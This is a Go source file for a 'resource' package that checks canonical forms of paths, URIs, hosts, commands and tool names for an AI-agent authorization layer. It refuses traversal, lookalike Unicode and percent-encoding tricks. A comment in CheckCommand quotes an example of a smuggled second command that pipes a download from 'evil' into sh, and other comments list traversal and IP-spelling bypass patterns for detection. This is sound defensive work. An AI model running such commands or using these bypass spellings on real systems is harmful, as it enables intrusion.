// Package resource defines the canonical form of the resource an action
// names, one checker per resource type: file paths, URIs, hosts, commands,
// tool and prompt names, secret names and agents. Scope matching, policy
// and the ledger all see the same canonical string.
//
// A resource that is not already canonical is refused, never cleaned: a
// cleaner would teach an agent which spelling slips through, and two
// components cleaning differently is how traversal gets past a check.
// See docs/resources.md for the rules and the reasons.
package resource

import (
	"bytes"
	"errors"
	"fmt"
	"net/netip"
	"net/url"
	"strconv"
	"strings"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/idna"
	"golang.org/x/text/unicode/norm"
)

// MaxLen is the longest resource accepted, in bytes.
const MaxLen = 4096

// ErrNotCanonical is returned (wrapped, with the rule broken) for a
// resource that is not in canonical form.
var ErrNotCanonical = errors.New("resource is not canonical")

// Check reports whether resource is the canonical form of a resource for
// action; the error says which rule it breaks. Unknown actions are refused.
func Check(action, resource string) error {
	if resource == "" {
		return fmt.Errorf("%w: empty resource", ErrNotCanonical)
	}
	if len(resource) > MaxLen {
		return fmt.Errorf("%w: longer than %d bytes", ErrNotCanonical, MaxLen)
	}
	if err := checkText(resource); err != nil {
		return err
	}
	switch action {
	case "file.read", "file.write":
		return CheckPath(resource)
	case "resource.read":
		return CheckURI(resource)
	case "http.request":
		return CheckHost(resource)
	case "tool.call", "prompt.get":
		return CheckTool(resource)
	case "shell.exec":
		return CheckCommand(resource)
	case "secret.use", "task.delegate":
		// Secret names and agent IDs: text rules only (checked above);
		// neither is a path a "**" could climb out of.
		return nil
	}
	return fmt.Errorf("%w: unknown action %s", ErrNotCanonical, Quote(action))
}

// checkText refuses invalid UTF-8, control characters (NUL included),
// format and separator characters, and characters that look like "/",
// "\\", "." or "%" but are not.
func checkText(s string) error {
	for i, r := range s {
		switch {
		case r == utf8.RuneError:
			if _, n := utf8.DecodeRuneInString(s[i:]); n <= 1 {
				return fmt.Errorf("%w: byte %d is not valid UTF-8", ErrNotCanonical, i)
			}
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0):
			return fmt.Errorf("%w: byte %d is a control character", ErrNotCanonical, i)
		case r < utf8.RuneSelf:
		case unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029': // format, line and paragraph separators
			return fmt.Errorf("%w: byte %d is %U, an invisible format or line-breaking character", ErrNotCanonical, i, r)
		case isLookalike(r) || foldsToSyntax(s[i:]):
			return fmt.Errorf("%w: byte %d is %U, which looks like \"/\", \"\\\", \".\" or \"%%\"", ErrNotCanonical, i, r)
		}
	}
	return nil
}

// isLookalike reports the characters that render like a path separator
// without being one and without a compatibility decomposition that says
// so (foldsToSyntax catches those).
func isLookalike(r rune) bool {
	switch r {
	case '\u2215', // DIVISION SLASH
		'\u2044', // FRACTION SLASH
		'\u29f8', // BIG SOLIDUS
		'\u2216': // SET MINUS
		return true
	}
	return false
}

// foldsToSyntax reports whether the character at the start of s has a
// compatibility form (NFKC) holding a "/", "\\", "." or "%": U+FF0F
// FULLWIDTH SOLIDUS, U+FE30 PRESENTATION FORM FOR VERTICAL TWO DOT LEADER
// (".."), U+2100 ACCOUNT OF ("a/c"), U+FE68 SMALL REVERSE SOLIDUS, U+FF05
// FULLWIDTH PERCENT SIGN and the rest. A reader, or a later normaliser,
// would see a different path from the one matched. A rule rather than a
// list: every such character is refused, not the ones someone thought of.
func foldsToSyntax(s string) bool {
	return bytes.ContainsAny(norm.NFKC.PropertiesString(s).Decomposition(), `/\.%`)
}

// CheckPath reports whether p is a canonical file path: absolute ("/"
// first), segments separated by single "/", no empty, "." or ".."
// segment, no trailing "/" (except the root "/" itself), no "\" (Windows
// paths are given in slash form, "/C:/Users/x"), no NUL or control
// character, valid UTF-8. Symbolic links are not resolved here: that is
// the enforcement point's job, before it asks.
func CheckPath(p string) error {
	if !strings.HasPrefix(p, "/") {
		return fmt.Errorf("%w: path %s is not absolute (must start with \"/\")", ErrNotCanonical, Quote(p))
	}
	if p == "/" {
		return nil
	}
	if strings.ContainsRune(p, '\\') {
		return fmt.Errorf("%w: path %s contains \"\\\" (give Windows paths with \"/\")", ErrNotCanonical, Quote(p))
	}
	if strings.HasSuffix(p, "/") {
		return fmt.Errorf("%w: path %s ends in \"/\"", ErrNotCanonical, Quote(p))
	}
	return checkSegments(p[1:], p)
}

// checkSegments checks the "/"-separated segments of rest (a path without
// its leading "/"); whole is used in messages.
func checkSegments(rest, whole string) error {
	for rest != "" {
		seg, tail, _ := strings.Cut(rest, "/")
		switch seg {
		case "":
			return fmt.Errorf("%w: path %s has an empty segment (\"//\")", ErrNotCanonical, Quote(whole))
		case ".", "..":
			return fmt.Errorf("%w: path %s has a %q segment", ErrNotCanonical, Quote(whole), seg)
		}
		rest = tail
	}
	return nil
}

// CheckURI reports whether u is a canonical URI (RFC 3986) of the form
// "scheme://authority/path[?query]": a lowercase scheme followed by "//"
// (no "scheme:/path" or opaque "scheme:path" alias), an authority that is
// empty or a canonical host by CheckHost's rules (no userinfo, no
// percent-encoding), no fragment, and a path that is empty or canonical by
// CheckPath's rules. A "file" URI has an empty authority ("file:///path":
// "file://localhost/path" names the same file).
//
// The path is given decoded: a "%" in it is refused outright. An encoded
// unreserved character ("%2e") has an unencoded spelling; an encoded "/"
// or "%" ("%2f", "%252e") is a different path to a server that decodes
// once more than we do. Refusing the "%" means there is no decoding step
// that two components could do differently.
func CheckURI(u string) error {
	scheme, rest, hasAuthority := strings.Cut(u, "://")
	if !hasAuthority {
		scheme, _, _ = strings.Cut(u, ":")
	}
	switch {
	case !validScheme(scheme):
		return fmt.Errorf("%w: URI %s has no scheme", ErrNotCanonical, Quote(u))
	case scheme != strings.ToLower(scheme):
		return fmt.Errorf("%w: URI %s: scheme must be lowercase", ErrNotCanonical, Quote(u))
	case !hasAuthority:
		return fmt.Errorf("%w: URI %s: want \"scheme://\" (an opaque or \"scheme:/path\" URI has no canonical form)", ErrNotCanonical, Quote(u))
	case strings.Contains(u, "#"):
		return fmt.Errorf("%w: URI %s has a fragment", ErrNotCanonical, Quote(u))
	case strings.ContainsRune(u, '\\'):
		// Not a URI character (RFC 3986); WHATWG URL parsers read it as "/".
		return fmt.Errorf("%w: URI %s contains \"\\\"", ErrNotCanonical, Quote(u))
	}
	end := strings.IndexAny(rest, "/?")
	if end < 0 {
		end = len(rest)
	}
	authority, rawPath := rest[:end], rest[end:]
	rawPath, _, _ = strings.Cut(rawPath, "?")
	switch {
	case strings.Contains(authority, "@"):
		return fmt.Errorf("%w: URI %s has userinfo", ErrNotCanonical, Quote(u))
	case strings.Contains(authority, "%"):
		return fmt.Errorf("%w: URI %s has a percent-encoded host", ErrNotCanonical, Quote(u))
	case scheme == "file" && authority != "":
		return fmt.Errorf("%w: URI %s: a file URI has no host (\"file:///path\")", ErrNotCanonical, Quote(u))
	case strings.Contains(rawPath, "%"):
		return fmt.Errorf("%w: URI %s has a percent-encoded path (give it decoded)", ErrNotCanonical, Quote(u))
	}
	if authority != "" {
		if err := CheckHost(authority); err != nil {
			return fmt.Errorf("%w: URI %s: %s", ErrNotCanonical, Quote(u), reason(err))
		}
	}
	parsed, err := url.Parse(u)
	if err != nil {
		return fmt.Errorf("%w: URI %s: %s", ErrNotCanonical, Quote(u), ascii(errors.Unwrap(err).Error()))
	}
	if parsed.Scheme != scheme || parsed.Host != authority || parsed.Path != rawPath || parsed.Opaque != "" || parsed.User != nil {
		// The standard library reads the URI differently from the split
		// above; do not guess which reading a server will use.
		return fmt.Errorf("%w: URI %s is ambiguous", ErrNotCanonical, Quote(u))
	}
	if rawPath == "" || rawPath == "/" {
		return nil
	}
	if strings.HasSuffix(rawPath, "/") {
		return fmt.Errorf("%w: URI %s: path ends in \"/\"", ErrNotCanonical, Quote(u))
	}
	return checkSegments(rawPath[1:], u)
}

// validScheme reports whether s is an RFC 3986 scheme: a letter, then
// letters, digits, "+", "-" and ".".
func validScheme(s string) bool {
	if s == "" || !isLetter(s[0]) {
		return false
	}
	for i := 1; i < len(s); i++ {
		if c := s[i]; !isLetter(c) && !(c >= '0' && c <= '9') && c != '+' && c != '-' && c != '.' {
			return false
		}
	}
	return true
}

func isLetter(c byte) bool { return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' }

// reason is the rule err breaks, without the ErrNotCanonical prefix.
func reason(err error) string {
	return strings.TrimPrefix(err.Error(), ErrNotCanonical.Error()+": ")
}

// hostProfile is the IDNA profile (UTS #46, non-transitional, with the
// STD3 and DNS length rules) a host's canonical A-label form is computed
// with. An idna.Profile is immutable and safe for concurrent use.
var hostProfile = idna.New(
	idna.MapForLookup(), idna.Transitional(false), idna.BidiRule(),
	idna.ValidateLabels(true), idna.CheckJoiners(true),
	// Hyphens: "--" in the third and fourth places is allowed, as in
	// WHATWG URLs ("r3---sn-x.example"); CheckHost refuses a label that
	// begins or ends with "-" (RFC 1123) itself.
	idna.CheckHyphens(false),
	idna.StrictDomainName(true), idna.VerifyDNSLength(true),
)

// CheckHost reports whether h is a canonical host, "name" or "name:port".
// A name is in its IDNA A-label form, lowercase ("xn--bcher-kva.de", not
// "bücher.de" or "Bücher.de"), every "xn--" label a valid punycode label,
// with no empty label and no trailing "."; a name that reads as an IPv4
// address (its last label numeric or "0x") is four decimal octets without
// leading zeros ("127.0.0.1", not "0177.1" or "2130706433"). An IPv6
// literal is bracketed and in RFC 5952 form ("[2001:db8::1]"), without a
// zone and not an IPv4-mapped address. A port is 1-65535 without leading
// zeros.
func CheckHost(h string) error {
	if strings.Contains(h, "/") {
		return fmt.Errorf("%w: host %s: a host name, not a URL (no scheme, no path)", ErrNotCanonical, Quote(h))
	}
	name, port := h, ""
	if strings.HasPrefix(h, "[") {
		end := strings.Index(h, "]")
		if end < 0 {
			return fmt.Errorf("%w: host %s: unclosed \"[\"", ErrNotCanonical, Quote(h))
		}
		name, port = h[:end+1], strings.TrimPrefix(h[end+1:], ":")
		if h[end+1:] != "" && (!strings.HasPrefix(h[end+1:], ":") || port == "") {
			return fmt.Errorf("%w: host %s: want \"[address]\" or \"[address]:port\"", ErrNotCanonical, Quote(h))
		}
	} else if i := strings.LastIndexByte(h, ':'); i >= 0 {
		name, port = h[:i], h[i+1:]
		if strings.Contains(name, ":") {
			return fmt.Errorf("%w: host %s: more than one \":\" (an IPv6 address goes in brackets)", ErrNotCanonical, Quote(h))
		}
		if port == "" {
			return fmt.Errorf("%w: host %s: empty port", ErrNotCanonical, Quote(h))
		}
	}
	if port != "" {
		n, err := strconv.Atoi(port)
		if err != nil || n < 1 || n > 65535 || strconv.Itoa(n) != port {
			return fmt.Errorf("%w: host %s: port must be 1-65535 without leading zeros", ErrNotCanonical, Quote(h))
		}
	}
	if inner, ok := strings.CutPrefix(name, "["); ok {
		inner = strings.TrimSuffix(inner, "]")
		addr, err := netip.ParseAddr(inner)
		switch {
		case err != nil || !addr.Is6():
			return fmt.Errorf("%w: host %s: not an IPv6 address", ErrNotCanonical, Quote(h))
		case addr.Zone() != "":
			return fmt.Errorf("%w: host %s: an IPv6 zone is not a host", ErrNotCanonical, Quote(h))
		case addr.Is4In6():
			return fmt.Errorf("%w: host %s: an IPv4-mapped address (write it as %s)", ErrNotCanonical, Quote(h), addr.Unmap())
		case addr.String() != inner:
			return fmt.Errorf("%w: host %s: IPv6 address not in canonical form (write [%s])", ErrNotCanonical, Quote(h), addr)
		}
		return nil
	}
	if name == "" || len(name) > 253 {
		return fmt.Errorf("%w: host %s: name must be 1-253 bytes", ErrNotCanonical, Quote(h))
	}
	labels := strings.Split(name, ".")
	for _, label := range labels {
		if label == "" {
			return fmt.Errorf("%w: host %s: empty label (no leading, trailing or doubled \".\")", ErrNotCanonical, Quote(h))
		}
		if len(label) > 63 {
			return fmt.Errorf("%w: host %s: label longer than 63 bytes", ErrNotCanonical, Quote(h))
		}
		if label[0] == '-' || label[len(label)-1] == '-' {
			return fmt.Errorf("%w: host %s: a label begins or ends with \"-\"", ErrNotCanonical, Quote(h))
		}
	}
	if last := strings.ToLower(labels[len(labels)-1]); strings.HasPrefix(last, "0x") || strings.Trim(last, "0123456789") == "" {
		// Resolvers and URL parsers (WHATWG) read such a name as an IPv4
		// address, in octal, hex or as one number: only one spelling.
		addr, err := netip.ParseAddr(name)
		if err != nil || !addr.Is4() || addr.String() != name {
			return fmt.Errorf("%w: host %s: an IPv4 address must be four decimal octets without leading zeros", ErrNotCanonical, Quote(h))
		}
		return nil
	}
	canonical, err := hostProfile.ToASCII(name)
	if err != nil {
		return fmt.Errorf("%w: host %s: not a valid host name: %s", ErrNotCanonical, Quote(h), ascii(err.Error()))
	}
	if canonical != name {
		return fmt.Errorf("%w: host %s: not in canonical form (lowercase, internationalised labels as \"xn--\" A-labels): write %s", ErrNotCanonical, Quote(h), Quote(canonical))
	}
	return nil
}

// CheckCommand reports whether c is a canonical command: the program a
// shell.exec runs, its argv[0], not a shell string. It is a bare name of
// ASCII letters, digits, "_", "-", "+" and "." (never "." or ".."), or an
// absolute path by CheckPath's rules. Whitespace and shell syntax are
// refused: "git status; curl evil | sh" is a string a shell would turn
// into three programs, and a scope pattern or policy written for the first
// would wrongly cover the rest. The arguments travel apart from the
// resource (the AuthZEN context.command, the policy's context.command).
func CheckCommand(c string) error {
	if strings.HasPrefix(c, "/") {
		if err := CheckPath(c); err != nil {
			return fmt.Errorf("%w: command %s: %s", ErrNotCanonical, Quote(c), reason(err))
		}
		return nil
	}
	for i := 0; i < len(c); i++ {
		if b := c[i]; !(b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9' || b == '_' || b == '-' || b == '+' || b == '.' || b == '/') {
			return fmt.Errorf("%w: command %s: a program name (argv[0]), not a shell string: only ASCII letters, digits, \"_\", \"-\", \"+\" and \".\"", ErrNotCanonical, Quote(c))
		}
	}
	if c == "." || c == ".." || strings.Contains(c, "/") {
		return fmt.Errorf("%w: command %s: want a program name or an absolute path", ErrNotCanonical, Quote(c))
	}
	return nil
}

// CheckTool reports whether t is a canonical tool or prompt name,
// "server/name" or a bare "name": each part non-empty, of ASCII letters,
// digits and "_", "-", ".", but never "." or "..".
func CheckTool(t string) error {
	server, name, hasServer := strings.Cut(t, "/")
	parts := []string{server}
	if hasServer {
		parts = append(parts, name)
	}
	for _, part := range parts {
		if part == "" || part == "." || part == ".." || strings.Contains(part, "/") {
			return fmt.Errorf("%w: tool %s: want \"server/name\"", ErrNotCanonical, Quote(t))
		}
		for i := 0; i < len(part); i++ {
			c := part[i]
			if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_' || c == '-' || c == '.') {
				return fmt.Errorf("%w: tool %s: only ASCII letters, digits, \"_\", \"-\" and \".\"", ErrNotCanonical, Quote(t))
			}
		}
	}
	return nil
}

// Traverses reports whether s, read as "/"-separated segments (after any
// "scheme://" prefix), could climb out of a directory or be read as a
// different path by a component that decodes or normalises it: an empty,
// "." or ".." segment, a "\\", a percent-encoded "." "/" or "\\" ("%2e",
// "%2f", "%5c", any case), a "%25" (double encoding) or a NUL byte. It is
// the allocation-free guard of scope matching, for which a resource that
// Check refused must never match; it is stricter than Check (a file
// literally named "%2e" traverses) and does not replace it.
func Traverses(s string) bool {
	if i := strings.Index(s, "://"); i >= 0 {
		s = s[i+3:]
	}
	start := 0
	for i := 0; i <= len(s); i++ {
		if i < len(s) {
			switch c := s[i]; c {
			case 0, '\\':
				return true
			case '%':
				if i+2 < len(s) {
					h := s[i+1 : i+3]
					if h == "2e" || h == "2E" || h == "2f" || h == "2F" || h == "25" || h == "5c" || h == "5C" {
						return true
					}
				}
				continue
			case '/':
			default:
				continue
			}
		}
		seg := s[start:i]
		if seg == "." || seg == ".." || (seg == "" && start > 0 && i < len(s)) {
			return true
		}
		start = i + 1
	}
	return false
}

// ascii returns a library's message with anything but printable ASCII
// escaped, so that a reason can be shown and recorded as it is.
func ascii(msg string) string {
	var b strings.Builder
	for i, r := range msg {
		switch {
		case r >= 0x20 && r < 0x7f:
			b.WriteRune(r)
		case r == utf8.RuneError && !strings.HasPrefix(msg[i:], "\uFFFD"):
			fmt.Fprintf(&b, `\x%02x`, msg[i]) // an invalid byte
		default:
			q := strconv.QuoteRuneToASCII(r)
			b.WriteString(q[1 : len(q)-1])
		}
	}
	return b.String()
}

// maxQuoted bounds the quoted form of a refused resource.
const maxQuoted = 256

// Quote returns s in a form safe to show and record whatever it holds: Go
// quoted ASCII (NUL as \x00, non-ASCII escaped), cut to a bounded length.
func Quote(s string) string {
	if len(s) > maxQuoted {
		return strconv.QuoteToASCII(s[:maxQuoted]) + "..."
	}
	return strconv.QuoteToASCII(s)
}
